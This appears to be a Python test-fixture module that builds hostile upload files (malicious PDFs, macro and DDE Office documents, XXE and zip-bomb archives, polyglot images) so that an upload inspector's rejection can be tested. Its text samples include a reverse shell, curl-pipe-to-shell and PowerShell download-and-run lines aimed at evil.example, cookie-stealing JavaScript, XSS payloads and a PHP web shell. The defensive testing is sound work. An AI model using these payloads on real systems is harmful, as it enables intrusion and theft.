"""Hostile evidence files, crafted the way an attacker would: one per way of getting active or
malformed content past an upload, each with the reason it must be refused for.

`HOSTILE` maps a short name to (a function making the bytes, the name it is uploaded under,
the reason). The inspection tests and the upload view's tests both go through all of them.
"""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL.PngImagePlugin import PngInfo

from assessment.inspection import reasons
from tests import files
from tests.files import DOCX, HYPERLINK, OFFICE_DOCUMENT, PPTX, WORD_NS, XLSX

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODF_TEXT = "application/vnd.oasis.opendocument.text"
PAGE_HTML = b"<html><body><script>alert(document.domain)</script></body></html>"


# PDF


def _javascript(code: str = "app.alert(1)") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(code))


def _open_action(action: Callable[[], pikepdf.Dictionary]) -> Callable[[], bytes]:
    """A PDF that runs `action()` when opened (made anew for each file: a PDF object belongs to
    the document it was added to)."""

    def edit(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(action())

    return lambda: files.pdf(edit)


def _link(action: Callable[[], pikepdf.Dictionary]) -> Callable[[], bytes]:
    def edit(document: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[10, 10, 100, 40], A=action()
        )
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([document.make_indirect(link)]))

    return lambda: files.pdf(edit)


def _pdf_names_javascript(document: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("run"), document.make_indirect(_javascript())])
    )
    document.Root.Names = pikepdf.Dictionary(JavaScript=document.make_indirect(tree))


def _pdf_page_trigger(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=_javascript())


def _pdf_field_trigger(document: pikepdf.Pdf) -> None:
    widget = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("name"),
            Rect=[10, 10, 200, 40],
            AA=pikepdf.Dictionary(K=_javascript("event.rc = true")),
        )
    )
    document.pages[0].Annots = pikepdf.Array([widget])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))


def _pdf_xfa(document: pikepdf.Pdf) -> None:
    xfa = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _pdf_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["payload.exe"] = pikepdf.AttachedFileSpec(document, files.EXECUTABLE)


def _pdf_attachment_annotation(document: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(document, b"secret", mime_type="text/plain")
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec.obj
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(annotation)])


def _pdf_rich_media(document: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 50, 50]
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(annotation)])


def _pdf_chained_script(document: pikepdf.Pdf) -> None:
    # A harmless-looking "go to page 1" whose next action is a script.
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit]), Next=_javascript()
    )


def _pdf_javascript_in_object_stream() -> bytes:
    return files.pdf(
        lambda document: setattr(document.Root, "OpenAction", _javascript()), object_streams=True
    )


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written byte by byte, its cross-reference table computed: object 1 is the catalogue."""
    content = b"%PDF-1.7\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    content += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return content


def _pdf_obfuscated_name() -> bytes:
    # "#61" is "a" and "#53" is "S": every reader decodes them, so this is /JavaScript and /JS.
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
    )


def _pdf_encrypted() -> bytes:
    document = pikepdf.open(io.BytesIO(files.PDF))
    output = io.BytesIO()
    document.save(output, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    return output.getvalue()


PDF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "pdf-javascript-on-open": (_open_action(_javascript), "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-names-tree": (lambda: files.pdf(_pdf_names_javascript), "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-link": (_link(_javascript), "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-page-opens": (lambda: files.pdf(_pdf_page_trigger), "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-form-field": (lambda: files.pdf(_pdf_field_trigger), "form.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-object-stream": (_pdf_javascript_in_object_stream, "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-obfuscated-name": (_pdf_obfuscated_name, "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-javascript-chained": (lambda: files.pdf(_pdf_chained_script), "plan.pdf", reasons.PDF_ACTIVE),
    "pdf-opens-web-address": (
        _open_action(
            lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))
        ),
        "plan.pdf",
        reasons.PDF_ACTIVE,
    ),
    "pdf-launch-on-open": (
        _open_action(lambda: pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))),
        "plan.pdf",
        reasons.PDF_ACTIVE,
    ),
    "pdf-submit-form-on-open": (
        _open_action(
            lambda: pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
        ),
        "plan.pdf",
        reasons.PDF_ACTIVE,
    ),
    "pdf-remote-go-to-on-open": (
        _open_action(
            lambda: pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf"))
        ),
        "plan.pdf",
        reasons.PDF_ACTIVE,
    ),
    "pdf-launch-link": (
        _link(lambda: pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))),
        "plan.pdf",
        reasons.PDF_ACTIVE,
    ),
    "pdf-link-to-local-file": (
        _link(
            lambda: pikepdf.Dictionary(
                S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/calc.exe")
            )
        ),
        "plan.pdf",
        reasons.PDF_ACTIVE,
    ),
    "pdf-xfa-form": (lambda: files.pdf(_pdf_xfa), "form.pdf", reasons.PDF_ACTIVE),
    "pdf-rich-media": (lambda: files.pdf(_pdf_rich_media), "video.pdf", reasons.PDF_ACTIVE),
    "pdf-embedded-file": (lambda: files.pdf(_pdf_attachment), "plan.pdf", reasons.PDF_ATTACHMENTS),
    "pdf-file-attachment-annotation": (
        lambda: files.pdf(_pdf_attachment_annotation),
        "plan.pdf",
        reasons.PDF_ATTACHMENTS,
    ),
    "pdf-user-password": (_pdf_encrypted, "plan.pdf", reasons.PROTECTED),
    "pdf-truncated": (lambda: files.PDF[: len(files.PDF) // 2], "plan.pdf", reasons.PDF_DAMAGED),
    "pdf-junk-after-end": (lambda: files.PDF + b"junk that is not PDF", "plan.pdf", reasons.PDF_DAMAGED),
    "pdf-header-then-web-page": (
        lambda: b"%PDF-1.7\n" + PAGE_HTML + b"\n%%EOF\n",
        "plan.pdf",
        reasons.MARKUP,
    ),
    "pdf-web-page-after-end": (lambda: files.PDF + PAGE_HTML, "plan.pdf", reasons.PDF_DAMAGED),
    "pdf-web-page-in-comment": (
        lambda: files.PDF.replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + PAGE_HTML + b"\n", 1),
        "plan.pdf",
        reasons.MARKUP,
    ),
}


# Office Open XML


def _word_settings_relationships(*entries: tuple[str, str, str]) -> dict[str, bytes]:
    return {
        "word__settings_dot_xml": b"<w:settings/>",
        "word___rels__settings_dot_xml_dot_rels": files.relationships(*entries),
    }


def _word_relationships(*entries: tuple[str, str, str]) -> dict[str, bytes]:
    return {"word___rels__document_dot_xml_dot_rels": files.relationships(*entries)}


def _field(instruction_runs: str) -> bytes:
    return files.word_document(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{instruction_runs}"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _zip_bomb_with_lying_headers() -> bytes:
    """50 MB of zeros, its central directory claiming 1 KB: a reader that trusts the header
    would unpack it all; one that reads to the claimed size finds the CRC wrong."""
    content = bytearray(files.docx(word__media__zeros_dot_bin=bytes(50 * 1024 * 1024)))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        member = archive.getinfo("word/media/zeros.bin")
    central = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/media/zeros.bin"))
    struct.pack_into("<I", content, central + 24, 1024)  # uncompressed size in the central directory
    struct.pack_into("<I", content, member.header_offset + 22, 1024)  # and in the local header
    return bytes(content)


def _zip_bomb() -> bytes:
    """A part that unpacks to a thousand times its packed size, its sizes declared honestly."""
    return files.ooxml(PPTX, ppt__media__zeros_dot_bin=bytes(8 * 1024 * 1024))


def _symlink() -> bytes:
    output = io.BytesIO(files.docx())
    with zipfile.ZipFile(output, "a") as archive:
        link = zipfile.ZipInfo("word/media/passwd")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return output.getvalue()


def _duplicate_member() -> bytes:
    output = io.BytesIO(files.docx())
    with zipfile.ZipFile(output, "a") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr("word/document.xml", files.word_document("<w:p><w:r><w:t>other</w:t></w:r></w:p>"))
    return output.getvalue()


def _encrypted_member() -> bytes:
    content = bytearray(files.docx())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        member = archive.getinfo("word/document.xml")
    central = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/document.xml"))
    content[member.header_offset + 6] |= 1  # the "encrypted" flag, in both headers
    content[central + 8] |= 1
    return bytes(content)


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OOXML_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "docm-renamed": (
        lambda: files.ooxml(
            DOCX,
            main_type=MACRO_MAIN,
            word__vbaProject_dot_bin=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504),
        ),
        "report.docx",
        reasons.MACROS,
    ),
    "xlsm-renamed": (
        lambda: files.ooxml(XLSX, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "marks.xlsx",
        reasons.MACROS,
    ),
    "vba-project-member": (
        lambda: files.docx(word__vbaProject_dot_bin=b"Attribute VB_Name"),
        "report.docx",
        reasons.MACROS,
    ),
    "remote-template": (
        lambda: files.docx(
            **_word_settings_relationships(
                (f"{RELATIONSHIPS}/attachedTemplate", "http://evil.example/t.dotm", "External")
            )
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "msdt-link": (
        lambda: files.docx(
            **_word_relationships(
                (
                    f"{RELATIONSHIPS}/oleObject",
                    "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x",
                    "External",
                )
            )
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "external-image": (
        lambda: files.docx(
            **_word_relationships((f"{RELATIONSHIPS}/image", "http://evil.example/pixel.png", "External"))
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "hyperlink-to-network-share": (
        lambda: files.docx(**_word_relationships((HYPERLINK, "file://evil/share/x.exe", "External"))),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "internal-target-with-scheme": (
        lambda: files.docx(
            **_word_relationships((f"{RELATIONSHIPS}/frame", "ms-msdt:/id PCWDiagnostic", ""))
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "xxe-in-document": (
        lambda: files.docx(
            main=b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<w:document xmlns:w="' + WORD_NS.encode() + b'"><w:body>&xxe;</w:body></w:document>'
        ),
        "report.docx",
        reasons.TAMPERED,
    ),
    "billion-laughs-in-properties": (
        lambda: files.docx(
            docProps__core_dot_xml=b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + b"".join(
                b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                for n in range(1, 10)
            )
            + b"]><cp:coreProperties>&lol9;</cp:coreProperties>"
        ),
        "report.docx",
        reasons.TAMPERED,
    ),
    "dtd-in-content-types": (
        lambda: files.zip_of(
            {
                "[Content_Types].xml": b'<?xml version="1.0"?><!DOCTYPE Types SYSTEM "http://evil.example/t.dtd"><Types/>',
                "_rels/.rels": files.relationships((OFFICE_DOCUMENT, "word/document.xml", "")),
                "word/document.xml": files.word_document(),
            }
        ),
        "report.docx",
        reasons.TAMPERED,
    ),
    "xml-in-utf-16": (
        lambda: files.docx(
            customXml__item1_dot_xml='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode(
                "utf-16"
            )
        ),
        "report.docx",
        reasons.TAMPERED,
    ),
    "member-out-of-the-folder": (
        lambda: files.docx(**{"..__..__evil_dot_txt": b"x"}),
        "report.docx",
        reasons.TAMPERED,
    ),
    "member-with-absolute-path": (
        lambda: files.docx(**{"__etc__evil": b"x"}),
        "report.docx",
        reasons.TAMPERED,
    ),
    "member-link": (_symlink, "report.docx", reasons.TAMPERED),
    "member-twice": (_duplicate_member, "report.docx", reasons.TAMPERED),
    "program-as-image": (
        lambda: files.docx(word__media__image1_dot_png=files.EXECUTABLE),
        "report.docx",
        reasons.EMBEDDED_PROGRAM,
    ),
    "script-inside": (
        lambda: files.docx(word__embeddings__run_dot_js=b"new ActiveXObject('WScript.Shell')"),
        "report.docx",
        reasons.EMBEDDED_PROGRAM,
    ),
    "java-archive-inside": (
        lambda: files.docx(**{"META-INF__MANIFEST_dot_MF": b"Main-Class: Evil\n"}),
        "report.docx",
        reasons.EMBEDDED_PROGRAM,
    ),
    "ole-object": (
        lambda: files.docx(
            word__embeddings__oleObject1_dot_bin=bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
        ),
        "report.docx",
        reasons.MACROS,
    ),
    "activex-control": (
        lambda: files.docx(word__activeX__activeX1_dot_xml=b"<ax:ocx/>"),
        "report.docx",
        reasons.MACROS,
    ),
    "web-page-chunk": (
        lambda: files.docx(
            word__afchunk_dot_htm=PAGE_HTML,
            **_word_relationships((f"{RELATIONSHIPS}/aFChunk", "afchunk.htm", "")),
        ),
        "report.docx",
        reasons.MACROS,
    ),
    "dde-field": (
        lambda: files.docx(
            main=_field(
                '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
            )
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "dde-field-split-over-runs": (
        lambda: files.docx(
            main=_field(
                '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd.exe "/c calc"</w:instrText></w:r>'
            )
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "dde-simple-field": (
        lambda: files.docx(
            main=files.word_document('<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot;"/></w:p>')
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "dde-simple-field-single-quotes": (
        lambda: files.docx(
            main=files.word_document('<w:p><w:fldSimple w:instr=\' DDE "cmd.exe" "/k calc" \'/></w:p>')
        ),
        "report.docx",
        reasons.EXTERNAL,
    ),
    "excel-4-macro-sheet": (
        lambda: files.ooxml(
            XLSX,
            xl__macrosheets__sheet1_dot_xml=b'<xm:macrosheet><sheetData><row><c><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>',
        ),
        "marks.xlsx",
        reasons.MACROS,
    ),
    "dde-in-a-formula": (
        lambda: files.ooxml(
            XLSX,
            xl__worksheets__sheet1_dot_xml=b"<worksheet><sheetData><row><c><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>",
        ),
        "marks.xlsx",
        reasons.EXTERNAL,
    ),
    "dde-external-link": (
        lambda: files.ooxml(
            XLSX,
            xl__externalLinks__externalLink1_dot_xml=b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        ),
        "marks.xlsx",
        reasons.EXTERNAL,
    ),
    "macro-document-inside": (
        lambda: files.docx(
            word__embeddings__Sheet_dot_xlsx=files.ooxml(
                XLSX, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
            )
        ),
        "report.docx",
        reasons.MACROS,
    ),
    "zip-bomb": (_zip_bomb, "slides.pptx", reasons.TOO_MUCH_INSIDE),
    "zip-bomb-with-lying-headers": (_zip_bomb_with_lying_headers, "report.docx", reasons.INVALID_DOCUMENT),
    "encrypted-member": (_encrypted_member, "report.docx", reasons.PROTECTED),
}


# OpenDocument


def _odf_content(body: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        b' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        b' xmlns:xlink="http://www.w3.org/1999/xlink">' + body + b"</office:document-content>"
    )


ODF_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "odf-basic-macro": (
        lambda: files.odf(Basic__Standard__Module1_dot_xml=b"<script:module/>"),
        "report.odt",
        reasons.MACROS,
    ),
    "odf-python-script": (
        lambda: files.odf(Scripts__python__run_dot_py=b"import os"),
        "report.odt",
        reasons.MACROS,
    ),
    "odf-event-listener": (
        lambda: files.odf(
            content=_odf_content(
                b'<office:body><office:text><text:p><script:event-listener script:language="ooo:script"'
                b' script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Run"/>'
                b"</text:p></office:text></office:body>"
            )
        ),
        "report.odt",
        reasons.MACROS,
    ),
    "odf-dtd": (
        lambda: files.odf(
            content=b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'
        ),
        "report.odt",
        reasons.TAMPERED,
    ),
    "odf-member-out-of-the-folder": (lambda: files.odf(**{"..__evil": b"x"}), "report.odt", reasons.TAMPERED),
    "odf-linked-image": (
        lambda: files.odf(
            content=_odf_content(
                b'<office:body><office:text><draw:frame><draw:image xlink:href="http://evil.example/pixel.png"/>'
                b"</draw:frame></office:text></office:body>"
            )
        ),
        "report.odt",
        reasons.EXTERNAL,
    ),
    "odf-dde": (
        lambda: files.odf(
            content=_odf_content(
                b'<office:body><office:text><text:dde-connection-decl text:name="x"/></office:text></office:body>'
            )
        ),
        "report.odt",
        reasons.EXTERNAL,
    ),
    "odf-password": (
        lambda: files.odf(
            **{
                "META-INF__manifest_dot_xml": b"<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
            }
        ),
        "report.odt",
        reasons.PROTECTED,
    ),
}


# Images


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_claiming(width: int, height: int) -> bytes:
    """A well-formed PNG whose header claims `width` x `height` one-bit pixels."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_claiming(width: int, height: int) -> bytes:
    content = bytearray(files.image("JPEG"))
    start = content.find(b"\xff\xc0")
    struct.pack_into(">HH", content, start + 5, height, width)
    return bytes(content)


def _webp_claiming(width: int, height: int) -> bytes:
    content = bytearray(files.image("WEBP", exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00"))
    start = content.find(b"VP8X")
    assert start > 0, "Pillow writes an extended WebP when there is EXIF"
    content[start + 12 : start + 18] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(content)


def _png_text(key: str, value: str) -> PngInfo:
    info = PngInfo()
    info.add_text(key, value)
    return info


def _png_bad_crc() -> bytes:
    content = bytearray(files.png())
    content[-20] ^= 0xFF  # inside the last IDAT chunk's data
    return bytes(content)


JAR = files.zip_of(
    {"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": bytes.fromhex("cafebabe") + bytes(8)}
)
IMAGE_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "png-truncated": (lambda: files.png()[:-30], "photo.png", reasons.IMAGE_DAMAGED),
    "jpeg-truncated": (
        lambda: files.image("JPEG", size=(400, 300))[:-200],
        "photo.jpg",
        reasons.IMAGE_DAMAGED,
    ),
    "webp-truncated": (
        lambda: files.image("WEBP", size=(200, 200))[:-40],
        "photo.webp",
        reasons.IMAGE_DAMAGED,
    ),
    "png-bad-checksum": (_png_bad_crc, "photo.png", reasons.IMAGE_DAMAGED),
    "png-7000-square": (lambda: _png_claiming(7000, 7000), "photo.png", reasons.IMAGE_TOO_MANY_PIXELS),
    "png-12000-square": (lambda: _png_claiming(12000, 12000), "photo.png", reasons.IMAGE_TOO_MANY_PIXELS),
    "png-50000-square": (lambda: _png_claiming(50000, 50000), "photo.png", reasons.IMAGE_TOO_MANY_PIXELS),
    "jpeg-30000-square": (lambda: _jpeg_claiming(30000, 30000), "photo.jpg", reasons.IMAGE_TOO_MANY_PIXELS),
    "webp-16000-square": (lambda: _webp_claiming(16000, 16000), "photo.webp", reasons.IMAGE_TOO_MANY_PIXELS),
    "png-then-web-page": (lambda: files.png() + PAGE_HTML, "photo.png", reasons.IMAGE_TRAILING_DATA),
    "jpeg-then-web-page": (lambda: files.image("JPEG") + PAGE_HTML, "photo.jpg", reasons.IMAGE_TRAILING_DATA),
    "webp-then-web-page": (
        lambda: files.image("WEBP") + PAGE_HTML,
        "photo.webp",
        reasons.IMAGE_TRAILING_DATA,
    ),
    "png-web-page-in-text-chunk": (
        lambda: files.image("PNG", pnginfo=_png_text("Comment", PAGE_HTML.decode())),
        "photo.png",
        reasons.IMAGE_TRAILING_DATA,
    ),
    "jpeg-web-page-in-comment": (
        lambda: files.image("JPEG", comment=PAGE_HTML),
        "photo.jpg",
        reasons.IMAGE_TRAILING_DATA,
    ),
    "png-then-java-archive": (lambda: files.png() + JAR, "photo.png", reasons.IMAGE_TRAILING_DATA),
    "jpeg-then-java-archive": (lambda: files.image("JPEG") + JAR, "photo.jpg", reasons.IMAGE_TRAILING_DATA),
    "jpeg-magic-then-web-page": (lambda: b"\xff\xd8\xff\xe0" + PAGE_HTML, "photo.jpg", reasons.IMAGE_DAMAGED),
    "webp-magic-then-web-page": (
        lambda: b"RIFF" + struct.pack("<I", len(PAGE_HTML) + 4) + b"WEBP" + PAGE_HTML,
        "photo.webp",
        reasons.IMAGE_DAMAGED,
    ),
    "gif-named-png": (lambda: files.image("GIF"), "photo.png", reasons.NOT_ACCEPTED),
    "svg-named-png": (lambda: files.SVG, "photo.png", reasons.MARKUP),
}


# Other documents, and text that is code


TEXT_HOSTILE_SAMPLES: dict[str, tuple[bytes, str]] = {
    "rtf-with-object": (
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}",
        reasons.RTF,
    ),
    "rtf": (b"{\\rtf1\\ansi Plan lekcji}", reasons.RTF),
    "shell-script": (b"#!/bin/sh\ncurl https://evil.example/x | sh\n", reasons.PROGRAM),
    "shell-pipe-to-shell": (b"curl -s https://evil.example/install.sh | bash\n", reasons.PROGRAM),
    "shell-reverse-shell": (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", reasons.PROGRAM),
    "shell-download-and-run": (b"cd /tmp\nwget http://evil.example/a\nchmod +x a\n./a\n", reasons.PROGRAM),
    "jscript": (
        b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n',
        reasons.PROGRAM,
    ),
    "javascript": (b'document.location = "https://evil.example/?c=" + document.cookie;\n', reasons.PROGRAM),
    "vbscript": (b'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "calc.exe"\n', reasons.PROGRAM),
    "vbscript-without-objects": (b"Dim x\nSet x = y\nSub Main()\nEnd Sub\n", reasons.PROGRAM),
    "batch": (b"@echo off\r\nstart calc.exe\r\n", reasons.PROGRAM),
    "batch-without-echo-off": (b"cmd /c powershell -enc SQBFAFgA\r\n", reasons.PROGRAM),
    "powershell": (
        b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\n",
        reasons.PROGRAM,
    ),
    "powershell-web-request": (
        b"Invoke-WebRequest -Uri http://evil.example/a.exe -OutFile $env:TEMP\\a.exe\n",
        reasons.PROGRAM,
    ),
    "python": (b'import os\nos.system("id")\n', reasons.PROGRAM),
    "perl": (
        b'use Socket;\n$i="10.0.0.1";\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\n',
        reasons.PROGRAM,
    ),
    "applescript": (b'do shell script "curl https://evil.example | sh"\n', reasons.PROGRAM),
    "desktop-launcher": (
        b"[Desktop Entry]\nType=Application\nName=Plan\nExec=sh -c 'curl evil.example|sh'\n",
        reasons.SHORTCUT,
    ),
    "internet-shortcut": (
        b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
        reasons.SHORTCUT,
    ),
    "shell-command-file": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\share\\x.ico\r\n", reasons.SHORTCUT),
    "autorun": (b"[autorun]\r\nopen=setup.exe\r\n", reasons.SHORTCUT),
    "registry": (
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n",
        reasons.SHORTCUT,
    ),
    "web-query": (b"WEB\n1\nhttps://evil.example/q\n", reasons.SHORTCUT),
    "html-image-error-handler": (b"Our notes <img src=x onerror=alert(1)>", reasons.MARKUP),
    "html-link-to-script": (b'<a href="javascript:alert(1)">plan</a>', reasons.MARKUP),
    "html-refresh": (b'<meta http-equiv="refresh" content="0;url=https://evil.example">', reasons.MARKUP),
    "html-form": (b'Log in again: <form action="https://evil.example"><input name=p></form>', reasons.MARKUP),
    "html-object": (b'<object data="https://evil.example/x.swf"></object>', reasons.MARKUP),
    "html-embed": (b'<embed src="https://evil.example/x">', reasons.MARKUP),
    "html-style": (b"<style>body{background:url(https://evil.example)}</style>", reasons.MARKUP),
    "html-base": (b'<base href="https://evil.example/">', reasons.MARKUP),
    "html-math": (b"<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>", reasons.MARKUP),
    "html-details": (b"<details open ontoggle=alert(1)>", reasons.MARKUP),
    "html-svg-slash": (b"<svg/onload=alert(1)>", reasons.MARKUP),
    "html-comment": (b"<!-- a comment --> notes", reasons.MARKUP),
    "php": (b"<?php system($_GET['c']); ?>", reasons.MARKUP),
    "html-in-utf-7": (b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", reasons.MARKUP),
    "html-in-utf-16": ("<html><script>alert(1)</script></html>".encode("utf-16"), reasons.NOT_ACCEPTED),
    "eicar": (files.EICAR, reasons.MALWARE),
    "eicar-inside-text": (b"Meeting notes\n" + files.EICAR + b"\nEnd of notes\n", reasons.MALWARE),
}
TEXT_HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    name: ((lambda content=content: content), "notes.txt", reason)
    for name, (content, reason) in TEXT_HOSTILE_SAMPLES.items()
}

HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = (
    PDF_HOSTILE | OOXML_HOSTILE | ODF_HOSTILE | IMAGE_HOSTILE | TEXT_HOSTILE
)
